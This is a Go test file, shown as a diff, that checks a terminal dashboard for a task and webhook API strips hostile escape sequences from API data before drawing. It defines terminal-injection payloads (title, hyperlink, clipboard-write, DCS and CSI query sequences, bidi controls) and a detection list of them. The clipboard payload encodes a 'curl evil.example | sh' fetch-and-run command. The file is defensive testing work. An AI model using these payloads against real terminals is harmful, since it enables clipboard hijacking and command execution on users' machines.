@@ -1,0 +1,387 @@
+package ui
+
+import (
+	"bytes"
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"io"
+	"net/http"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+	"unicode/utf8"
+
+	tea "charm.land/bubbletea/v2"
+	"github.com/charmbracelet/colorprofile"
+	"github.com/charmbracelet/x/ansi"
+
+	"github.com/aspect-hq/aspect-tui/api"
+	"github.com/aspect-hq/aspect-tui/feed"
+)
+
+// The payloads a hostile API plants in every string it sends. Each carries
+// a marker that must never reach the terminal: a title change (OSC 0), a
+// hyperlink (OSC 8), a clipboard write (OSC 52), device control strings
+// (DCS, one a termcap query whose answer would come back as input), an APC,
+// their 8-bit C1 forms, CSI queries whose answers would be typed into the
+// program, bidirectional overrides, stray controls and invalid UTF-8.
+var (
+	clipPayload = base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh\n"))
+	hostileTail = "\x1b[31m\x1b[21t\x1b[6n" +
+		"\x1b]0;PWNTITLE\x07" +
+		"\x1b]8;;https://PWNLINK.example/\x1b\\here\x1b]8;;\x1b\\" +
+		"\x1b]52;c;" + clipPayload + "\x07" +
+		"\x1bP+q544e\x1b\\\x1bPPWNDCS\x1b\\" +
+		"\x1b_PWNAPC\x1b\\" +
+		"\u009b6n\u009d2;PWNC1TITLE\u009c\u0090PWNC1DCS\u009c" +
+		"\u202e\u2066\u200f" +
+		"\x08\x7f\r\x00" + "\xff"
+	// Markers of payloads: none may appear in the bytes written.
+	hostileMarkers = []string{"PWNTITLE", "PWNLINK", clipPayload, "PWNDCS", "PWNAPC", "PWNC1TITLE", "PWNC1DCS", "544e"}
+	// Sequences the program never writes itself: a hostile string's only.
+	hostileSeqs = []string{"\x1b]52", "\x1bP", "\x1b]8;", "\x1b]0;", "\x1b_", "\x1b[21t", "\x1b[6n"}
+)
+
+// hostile is s, which the screen should show, followed by every payload.
+func hostile(s string) string { return s + hostileTail }
+
+// checkTerminalBytes fails if out holds any payload, any sequence only a
+// payload writes, a C1 control or a bidirectional control.
+func checkTerminalBytes(t *testing.T, out []byte) {
+	t.Helper()
+	for _, m := range hostileMarkers {
+		if i := bytes.Index(out, []byte(m)); i >= 0 {
+			t.Errorf("the terminal got %q, a hostile payload: …%q…", m, out[max(0, i-60):min(len(out), i+60)])
+		}
+	}
+	for _, s := range hostileSeqs {
+		if i := bytes.Index(out, []byte(s)); i >= 0 {
+			t.Errorf("the terminal got %q: …%q…", s, out[max(0, i-60):min(len(out), i+60)])
+		}
+	}
+	for i := 0; i < len(out); {
+		r, size := utf8.DecodeRune(out[i:])
+		switch {
+		case r == utf8.RuneError && size == 1:
+			t.Errorf("invalid UTF-8 at byte %d: …%q…", i, out[max(0, i-40):min(len(out), i+40)])
+			return
+		case r >= 0x80 && r <= 0x9f, r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0x200e, r == 0x200f, r == 0x061c:
+			t.Errorf("control %U at byte %d: …%q…", r, i, out[max(0, i-40):min(len(out), i+40)])
+			return
+		}
+		i += size
+	}
+}
+
+// hostileAPI holds a task, an endpoint, attempts and messages whose every
+// string field is hostile, and an SSE stream with the task, an event of an
+// unknown hostile type and an unreadable event.
+func hostileAPI(t *testing.T) *fakeAPI {
+	t.Helper()
+	now := time.Now().UTC()
+	task := api.Task{
+		ID:      hostile("TASKID1"),
+		AssetID: hostile("ASSET1"),
+		UserID:  hostile("USER1"),
+		Features: map[string]api.Feature{
+			"proxy":             {State: api.StateCompleted, StorageVariant: hostile("hls")},
+			hostile("FEATX"):    {State: api.State(hostile("STATEX"))},
+			"preview":           {State: api.StateProcessing},
+			"transcription":     {State: api.StateFailed},
+			hostile("featlong"): {State: api.StateQueued},
+		},
+		Created: api.Time{Time: now.Add(-time.Minute)},
+		Updated: api.Time{Time: now.Add(-30 * time.Second)},
+	}
+	later := task
+	later.Updated = api.Time{Time: now}
+	later.Features = map[string]api.Feature{}
+	for k, v := range task.Features {
+		later.Features[k] = v
+	}
+	later.Features["visual"] = api.Feature{State: api.State(hostile("VSTATE"))}
+	env := api.Envelope{Timestamp: api.Time{Time: now}, UserID: hostile("USER1"), EventID: hostile("EVID1"), EventType: "task.progress", Data: api.EnvelopeData{Task: &later}}
+	unknown := env
+	unknown.EventID, unknown.EventType = hostile("EVID2"), hostile("task.HOSTILETYPE")
+	f := newFakeAPI(t)
+	f.tasks = []api.Task{asSent(t, task)}
+	f.events = []string{
+		sseFrame(t, env),
+		sseFrame(t, unknown),
+		// Not JSON, raw controls and all: skipped, and shown in the log.
+		"id: EVID3\x1b]0;PWNTITLE\x07\nevent: task.progress\ndata: {NOTJSON" + hostileTail + "\n\n",
+	}
+	ep := api.Endpoint{ID: hostile("EPID1"), URL: hostile("https://hooks.example/EPURL"), Description: hostile("EPDESC"),
+		EventTypes: []string{hostile("task.EPTYPE")}, RateLimit: 5, Version: 1, CreatedAt: api.Time{Time: now.Add(-time.Hour)}}
+	ep = asSent(t, ep)
+	f.endpoints = []api.Endpoint{ep}
+	payload, _ := json.Marshal(env)
+	msg := api.Message{ID: hostile("MSGID1"), EventType: hostile("task.MSGTYPE"), EventID: hostile("EVID1"), Payload: payload, Timestamp: api.Time{Time: now.Add(-20 * time.Second)}}
+	msg = asSent(t, msg)
+	f.messages = []api.Message{msg}
+	f.attempts = []api.Attempt{asSent(t, api.Attempt{
+		ID: hostile("ATMPT1"), MsgID: msg.ID, EndpointID: ep.ID, URL: hostile("https://hooks.example/ATURL"),
+		Status: api.AttemptFailed, ResponseStatusCode: 500,
+		Response:           hostile("RESPBODY line one") + "\nsecond line " + hostile("RESP2") + "\r\n<html>" + hostile("RESP3"),
+		ResponseDurationMs: 120, TriggerType: api.TriggerScheduled, Timestamp: api.Time{Time: now.Add(-10 * time.Second)},
+	})}
+	return f
+}
+
+// asSent is v as the client reads it back: JSON carries invalid UTF-8 as
+// U+FFFD, so the fake must match ids the way the client will send them.
+func asSent[T any](t *testing.T, v T) T {
+	t.Helper()
+	b, err := json.Marshal(v)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out T
+	if err := json.Unmarshal(b, &out); err != nil {
+		t.Fatal(err)
+	}
+	return out
+}
+
+// syncBuffer is what the program writes to, read while it runs.
+type syncBuffer struct {
+	mu sync.Mutex
+	b  bytes.Buffer
+}
+
+func (s *syncBuffer) Write(p []byte) (int, error) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.Write(p)
+}
+
+func (s *syncBuffer) Bytes() []byte {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return bytes.Clone(s.b.Bytes())
+}
+
+// framed records every frame the program draws, as plain text, so a test
+// can wait for what a user would see while the bytes go to a buffer.
+type framed struct {
+	tea.Model
+	mu     sync.Mutex
+	frames []string
+	cond   chan struct{}
+}
+
+func newFramed(m tea.Model) *framed { return &framed{Model: m, cond: make(chan struct{}, 1)} }
+
+func (f *framed) Update(msg tea.Msg) (tea.Model, tea.Cmd) {
+	_, cmd := f.Model.Update(msg)
+	return f, cmd
+}
+
+func (f *framed) View() tea.View {
+	v := f.Model.View()
+	f.mu.Lock()
+	f.frames = append(f.frames, ansi.Strip(v.Content))
+	f.mu.Unlock()
+	select {
+	case f.cond <- struct{}{}:
+	default:
+	}
+	return v
+}
+
+// checkWidths fails if a line of any frame is not w cells wide: widths
+// measured on text before it was cleaned would push the borders out.
+func (f *framed) checkWidths(t *testing.T, w int) {
+	t.Helper()
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	for i, fr := range f.frames {
+		if fr == "" {
+			continue
+		}
+		for j, l := range strings.Split(fr, "\n") {
+			if n := ansi.StringWidth(l); n != w {
+				t.Errorf("frame %d, line %d is %d cells wide, not %d:\n%s", i, j, n, w, l)
+				return
+			}
+		}
+	}
+}
+
+func (f *framed) last() string {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	if len(f.frames) == 0 {
+		return ""
+	}
+	return f.frames[len(f.frames)-1]
+}
+
+// waitFrame waits until the latest frame holds every want.
+func (f *framed) waitFrame(t *testing.T, want ...string) string {
+	t.Helper()
+	deadline := time.After(10 * time.Second)
+	for {
+		s := f.last()
+		ok := s != ""
+		for _, w := range want {
+			ok = ok && strings.Contains(s, w)
+		}
+		if ok {
+			return s
+		}
+		select {
+		case <-f.cond:
+		case <-time.After(50 * time.Millisecond):
+		case <-deadline:
+			t.Fatalf("waited 10s for %q; the last frame:\n%s", want, s)
+		}
+	}
+}
+
+// runPiped runs m as the dashboard does, with its output in a buffer,
+// its input from a pipe and a fixed window size; keys typed into the pipe
+// reach it as from a terminal.
+func runPiped(t *testing.T, ctx context.Context, m tea.Model) (p *tea.Program, out *syncBuffer, keys io.Writer, done <-chan error) {
+	t.Helper()
+	out = &syncBuffer{}
+	pr, pw := io.Pipe()
+	p = tea.NewProgram(m, tea.WithContext(ctx), tea.WithInput(pr), tea.WithOutput(out), tea.WithWindowSize(160, 45),
+		tea.WithColorProfile(colorprofile.TrueColor), tea.WithEnvironment([]string{"TERM=xterm-256color"}))
+	errc := make(chan error, 1)
+	go func() {
+		_, err := p.Run()
+		pw.Close()
+		errc <- err
+	}()
+	t.Cleanup(func() {
+		p.Kill()
+		p.Wait()
+		pw.Close()
+	})
+	return p, out, pw, errc
+}
+
+// TestHostileAPIReachesNoTerminal serves a task, an endpoint, a delivery
+// attempt, a message and SSE events whose every string holds escape
+// sequences, and walks the real program through every view that shows
+// them: the bytes written to the terminal hold none of the payloads, while
+// the text around them is shown.
+func TestHostileAPIReachesNoTerminal(t *testing.T) {
+	f := hostileAPI(t)
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	c := f.client(t)
+	fd := feed.Start(ctx, c, feed.Options{})
+	dark := true
+	m, err := New(Options{Context: ctx, Client: c, Batches: fd.Batches(), FeedErr: fd.Wait, APIURL: f.srv.URL, Dark: &dark, Refresh: 100 * time.Millisecond})
+	if err != nil {
+		t.Fatal(err)
+	}
+	fm := newFramed(m)
+	p, out, keys, done := runPiped(t, ctx, fm)
+	typ := func(s string) {
+		t.Helper()
+		if _, err := io.WriteString(keys, s); err != nil {
+			t.Fatal(err)
+		}
+	}
+	esc := func() { p.Send(tea.KeyPressMsg{Code: tea.KeyEscape}) }
+
+	// The grid, the side panes, and the status line.
+	fm.waitFrame(t, "TASKID1", "ASSET1", "EPURL", "✗ 500")
+	// The task whole, scrolled to its JSON as received.
+	typ("\r")
+	fm.waitFrame(t, "FEATX", "STATEX", "USER1")
+	typ("G")
+	fm.waitFrame(t, "VSTATE", "as received in event EVID1")
+	esc()
+	fm.waitFrame(t, "Tasks 1")
+	// The event log: the unknown type and the unreadable event.
+	typ("L")
+	fm.waitFrame(t, "HOSTILETYPE", "NOTJSON")
+	esc()
+	fm.waitFrame(t, "Tasks 1")
+	// The task's webhooks: its message and attempt.
+	typ("w")
+	fm.waitFrame(t, "MSGTYPE")
+	esc()
+	fm.waitFrame(t, "Tasks 1")
+	// The endpoints pane zoomed, then its edit form, filled from the API.
+	typ("\tz")
+	fm.waitFrame(t, "EPDESC", "EPTYPE")
+	typ("e")
+	fm.waitFrame(t, "EPURL", "Edit")
+	esc()
+	fm.waitFrame(t, "n new")
+	typ("z")
+	// The deliveries pane zoomed, then the attempt whole.
+	typ("\tz")
+	fm.waitFrame(t, "ATURL")
+	typ("\r")
+	fm.waitFrame(t, "RESPBODY", "RESP3")
+	esc()
+	fm.waitFrame(t, "ATURL")
+	typ("?")
+	fm.waitFrame(t, "Help")
+	typ("q")
+	select {
+	case err := <-done:
+		if err != nil {
+			t.Fatal(err)
+		}
+	case <-time.After(10 * time.Second):
+		t.Fatal("q did not quit")
+	}
+	cancel()
+	if err := fd.Wait(); err != nil && !errors.Is(err, context.Canceled) {
+		t.Log("feed:", err)
+	}
+	checkTerminalBytes(t, out.Bytes())
+	fm.checkWidths(t, 160)
+}
+
+// TestHostileErrorDetailReachesNoTerminal: every webhook route fails with
+// a detail holding escape sequences, and the stream is refused the same
+// way; the panes and the status line say so without the payloads.
+func TestHostileErrorDetailReachesNoTerminal(t *testing.T) {
+	f := newFakeAPI(t)
+	detail := func(status int) http.HandlerFunc {
+		return func(w http.ResponseWriter, r *http.Request) {
+			writeJSON(w, status, map[string]any{"detail": hostile("DETAIL" + http.StatusText(status))})
+		}
+	}
+	f.fault(api.RouteEndpointList, detail(500))
+	f.fault(api.RouteMessageList, func(w http.ResponseWriter, r *http.Request) {
+		writeJSON(w, 422, map[string]any{"detail": []map[string]any{{"loc": []any{"query", hostile("LOCFIELD")}, "msg": hostile("FIELDMSG"), "type": "value_error"}}})
+	})
+	f.fault(api.RouteEvents, detail(503))
+	f.tasks = []api.Task{{ID: "t1", AssetID: "a1", Features: map[string]api.Feature{"proxy": {State: api.StateQueued}}}}
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	c := f.client(t)
+	fd := feed.Start(ctx, c, feed.Options{})
+	dark := true
+	m, err := New(Options{Context: ctx, Client: c, Batches: fd.Batches(), FeedErr: fd.Wait, APIURL: f.srv.URL, Dark: &dark, Refresh: 100 * time.Millisecond})
+	if err != nil {
+		t.Fatal(err)
+	}
+	fm := newFramed(m)
+	_, out, keys, done := runPiped(t, ctx, fm)
+	fm.waitFrame(t, "DETAILInternal Server Error", "DETAILService Unavailable", "t1")
+	io.WriteString(keys, "w")
+	fm.waitFrame(t, "FIELDMSG", "LOCFIELD")
+	io.WriteString(keys, "q")
+	select {
+	case <-done:
+	case <-time.After(10 * time.Second):
+		t.Fatal("q did not quit")
+	}
+	cancel()
+	fd.Wait()
+	checkTerminalBytes(t, out.Bytes())
+	fm.checkWidths(t, 160)
+}
